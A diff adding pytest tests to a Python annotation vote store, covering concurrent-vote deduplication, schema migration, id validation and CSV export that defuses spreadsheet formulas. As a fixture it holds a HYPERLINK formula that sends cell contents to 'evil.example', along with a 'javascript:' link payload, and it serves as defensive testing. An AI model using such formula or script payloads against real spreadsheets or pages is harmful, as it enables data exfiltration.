@@ -1,14 +1,16 @@
 from __future__ import annotations
 
+import csv
 import json
 import sqlite3
 import threading
 
 import pytest
 
+from longform_eval.spaces.fields import FieldError
 from longform_eval.spaces.leaderboard import agreement_summary, annotator_table, ratings_table
 from longform_eval.spaces.safe_markdown import inert_markdown
-from longform_eval.spaces.storage import SCHEMA_VERSION, Vote, VoteStore
+from longform_eval.spaces.storage import SCHEMA_VERSION, AlreadyVoted, Vote, VoteStore, csv_cell
 
 from .conftest import HOSTILE
 
@@ -77,3 +79,117 @@ def test_hostile_markup_renders_inert():
     assert "javascript:" not in safe and "(#blocked-link)" in safe
     assert "(https://example.org)" in safe and "**bold stays bold**" in safe
     assert "javascript" not in inert_markdown("<javascript:alert(1)>")
+
+
+def test_four_votes_fired_at_once_for_one_comparison_store_one_row(tmp_path):
+    store = VoteStore(tmp_path / "votes.sqlite")
+    start = threading.Barrier(4, timeout=10)
+    outcomes = []
+
+    def cast(outcome: str) -> None:
+        start.wait()
+        try:
+            store.add_vote(Vote("ann", "s", "chat_002", "m1", "m2", "sorted", outcome, token="comparison-1"))
+            outcomes.append("stored")
+        except AlreadyVoted:
+            outcomes.append("refused")
+
+    threads = [threading.Thread(target=cast, args=(outcome,)) for outcome in OUTCOMES]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join()
+    assert sorted(outcomes) == ["refused", "refused", "refused", "stored"]
+    assert store.count() == 1 and store.votes()[0].token == "comparison-1" and store.has_vote("comparison-1")
+
+
+SCHEMA_1_VOTES = """CREATE TABLE votes (id INTEGER PRIMARY KEY AUTOINCREMENT, annotator TEXT NOT NULL,
+session TEXT NOT NULL, created REAL NOT NULL, item_id TEXT NOT NULL, model_a TEXT NOT NULL, model_b TEXT NOT NULL,
+order_shown TEXT NOT NULL, outcome TEXT NOT NULL, judge_outcome TEXT, judge_flipped INTEGER)"""
+
+
+def test_a_schema_1_database_is_migrated_and_keeps_its_votes(tmp_path):
+    path = tmp_path / "votes.sqlite"
+    connection = sqlite3.connect(path)
+    connection.execute(SCHEMA_1_VOTES)
+    connection.execute(
+        "INSERT INTO votes (annotator, session, created, item_id, model_a, model_b, order_shown, outcome) "
+        "VALUES ('old', 's', 1.0, 'chat_002', 'm1', 'm2', 'sorted', 'B')"
+    )
+    connection.execute("PRAGMA user_version=1")
+    connection.commit()
+    connection.close()
+    store = VoteStore(path)
+    assert SCHEMA_VERSION == 2 and sqlite3.connect(path).execute("PRAGMA user_version").fetchone()[0] == 2
+    assert store.votes() == [Vote("old", "s", "chat_002", "m1", "m2", "sorted", "B", created=1.0)]
+    store.add_vote(Vote("new", "s", "chat_002", "m1", "m2", "sorted", "A", token="t1"))
+    store.add_vote(Vote("tokenless", "s", "chat_002", "m1", "m2", "sorted", "A"))  # NULL tokens never collide
+    with pytest.raises(AlreadyVoted):
+        store.add_vote(Vote("new", "s", "chat_002", "m1", "m2", "sorted", "B", token="t1"))
+    assert [v.annotator for v in VoteStore(path).votes()] == ["old", "new", "tokenless"]  # reopening changes nothing
+
+
+def test_a_database_newer_than_the_code_fails_clearly(tmp_path):
+    path = tmp_path / "votes.sqlite"
+    sqlite3.connect(path).execute(f"PRAGMA user_version={SCHEMA_VERSION + 1}")
+    with pytest.raises(RuntimeError, match="schema version 3 is newer than this code"):
+        VoteStore(path)
+
+
+@pytest.mark.parametrize(
+    ("field", "value", "message"),
+    [
+        ("annotator", "x" * 5_000_000, "annotator id is too long \\(5,000,000 characters; at most 64\\)"),
+        ("annotator", "ann\x00", "annotator id contains control characters"),
+        ("annotator", "ann\u202egnp.exe", "annotator id contains control characters"),  # right-to-left override
+        ("annotator", "", "annotator id is empty"),
+        ("session", "s\n", "session id contains control characters"),
+        ("token", "t" * 65, "comparison token is too long"),
+    ],
+)
+def test_the_store_refuses_oversized_or_control_character_ids(tmp_path, field, value, message):
+    store = VoteStore(tmp_path / "votes.sqlite")
+    fields = {"annotator": "ann", "session": "s", "token": "t"} | {field: value}
+    with pytest.raises(FieldError, match=message):
+        store.add_vote(
+            Vote(fields["annotator"], fields["session"], "chat_002", "m1", "m2", "sorted", "A", token=fields["token"])
+        )
+    if field == "annotator":
+        with pytest.raises(FieldError, match=message):
+            store.add_annotation(value, "chat_002", "report_write", "m1", [1.0], 5.0)
+    assert store.count() == 0 and store.annotations() == []
+
+
+def test_csv_export_defuses_formulas_and_jsonl_keeps_the_raw_values(tmp_path):
+    store = VoteStore(tmp_path / "votes.sqlite")
+    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
+    store.add_vote(Vote(hostile, "s", "+chat_002", "@SUM(1)", "-m2", "sorted", "A", judge_outcome=None, created=-1.5))
+    store.add_vote(Vote("plain", "s", "chat_002", "m1", "m2", "sorted", "B"))
+    csv_path, jsonl_path, _ = store.export(tmp_path / "export")
+    rows = list(csv.DictReader(csv_path.open(encoding="utf-8")))
+    assert rows[0]["annotator"] == "'" + hostile and rows[0]["annotator"].startswith("'=HYPERLINK(")
+    assert (rows[0]["item_id"], rows[0]["model_a"], rows[0]["model_b"]) == ("'+chat_002", "'@SUM(1)", "'-m2")
+    assert rows[0]["created"] == "-1.5"  # numbers are not text cells: left as they are
+    assert rows[1]["annotator"] == "plain" and rows[1]["model_a"] == "m1"
+    raw = [json.loads(line) for line in jsonl_path.read_text(encoding="utf-8").splitlines()]
+    assert raw[0]["annotator"] == hostile and raw[0]["model_a"] == "@SUM(1)" and raw[0]["item_id"] == "+chat_002"
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+2", "'=1+2"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@A1", "'@A1"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("a=1", "a=1"),
+        ("", ""),
+        (-1.5, -1.5),
+        (None, None),
+        (True, True),
+    ],
+)
+def test_csv_cell_prefixes_a_quote_to_formula_starts_only(value, cell):
+    assert csv_cell(value) == cell
